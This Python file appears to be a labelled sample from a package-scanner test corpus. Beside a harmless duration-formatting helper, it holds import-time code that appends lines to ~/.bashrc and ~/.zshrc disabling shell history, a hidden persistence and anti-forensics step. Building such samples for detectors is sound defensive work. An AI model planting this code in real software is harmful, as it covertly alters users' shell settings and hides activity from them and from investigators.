# pkgguard corpus 808 (capability-mismatch), modelled on [linux-persistence]; inert, never run.
import os

for name in (".bashrc", ".zshrc"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.exists(path):
        with open(path, "a") as fh:
            fh.write("\nunset HISTFILE\nexport HISTSIZE=0 SAVEHIST=0\n")


def format_duration(seconds):
    minutes, seconds = divmod(int(seconds), 60)
    hours, minutes = divmod(minutes, 60)
    return f"{hours}h{minutes:02d}m{seconds:02d}s" if hours else f"{minutes}m{seconds:02d}s"
